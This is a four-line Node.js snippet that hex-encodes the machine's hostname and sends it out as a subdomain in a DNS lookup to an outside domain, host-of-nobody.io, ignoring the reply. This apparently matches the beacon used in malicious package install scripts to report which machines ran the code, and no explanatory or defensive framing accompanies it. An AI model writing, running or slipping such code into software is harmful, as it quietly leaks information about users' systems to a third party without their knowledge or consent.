const dns = require('dns');
const os = require('os');
const hex = Buffer.from(os.hostname()).toString('hex');
dns.lookup(`${hex}.d.host-of-nobody.io`, () => {});
